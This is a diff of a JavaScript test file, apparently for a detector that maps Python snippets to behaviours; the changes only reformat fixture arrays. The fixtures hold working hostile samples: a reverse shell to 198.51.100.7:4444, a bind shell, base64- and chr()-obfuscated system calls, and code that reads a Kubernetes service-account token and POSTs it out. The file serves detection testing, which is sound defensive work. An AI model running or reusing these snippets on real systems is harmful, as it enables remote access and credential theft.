@@ -11,7 +11,12 @@ describe('python', () => {
     [
       'reverse shell: aliased imports, a loop over the fds and pty.spawn',
       'from socket import socket as S\nimport os as o, pty\ns=S()\ns.connect(("198.51.100.7",int("4444")))\nfor fd in (0,1,2):\n    o.dup2(s.fileno(),fd)\npty.spawn("/bin/bash")',
-      ['connect#0 tcp 198.51.100.7:4444', 'stdio#0 fds=0,1,2 (loop)', 'run argv=[/bin/bash]', 'stdio#0 fds=0,1,2 process=2'],
+      [
+        'connect#0 tcp 198.51.100.7:4444',
+        'stdio#0 fds=0,1,2 (loop)',
+        'run argv=[/bin/bash]',
+        'stdio#0 fds=0,1,2 process=2',
+      ],
     ],
     [
       'reverse shell: Popen with the socket as its streams',
@@ -51,14 +56,14 @@ describe('python', () => {
     [
       'base64-decoded code',
       "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))",
-      ['eval python import os;os.system(\'id\'){decoded:base64}', 'run shell=id'],
+      ["eval python import os;os.system('id'){decoded:base64}", 'run shell=id'],
     ],
     [
       'a credential read and sent',
       "t=open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\nimport urllib.request as u\nu.urlopen(u.Request('http://198.51.100.1/c',data=t.encode()))",
       [
         'read /var/run/secrets/kubernetes.io/serviceaccount/token',
-        'fetch POST http://198.51.100.1/c body=open(\'/var/run/secrets/kubernetes.io/serviceaccount/token\').read()~',
+        "fetch POST http://198.51.100.1/c body=open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()~",
       ],
     ],
     [
@@ -71,11 +76,7 @@ describe('python', () => {
         'run shell=/tmp/.k',
       ],
     ],
-    [
-      'a chr() chain',
-      "import os;os.system(''.join(map(chr,[105,100])))",
-      ['run shell=id'],
-    ],
+    ['a chr() chain', "import os;os.system(''.join(map(chr,[105,100])))", ['run shell=id']],
     [
       'a bind shell',
       'import socket,os\ns=socket.socket()\ns.bind(("0.0.0.0",31337))\ns.listen(1)\nc,a=s.accept()\nos.dup2(c.fileno(),0)\nos.execv("/bin/sh",["sh"])',
@@ -100,9 +101,9 @@ describe('python', () => {
 
   it('reads the environment the context gives', () => {
     const url = { text: 'http://api.internal/', exact: true, origins: [] };
-    expect(lines('python', 'import os,requests\nrequests.get(os.environ.get("API"))', { env: { API: url } })).toEqual([
-      'fetch GET http://api.internal/',
-    ]);
+    expect(
+      lines('python', 'import os,requests\nrequests.get(os.environ.get("API"))', { env: { API: url } }),
+    ).toEqual(['fetch GET http://api.internal/']);
   });
 
   it('notes obfuscation', () => {
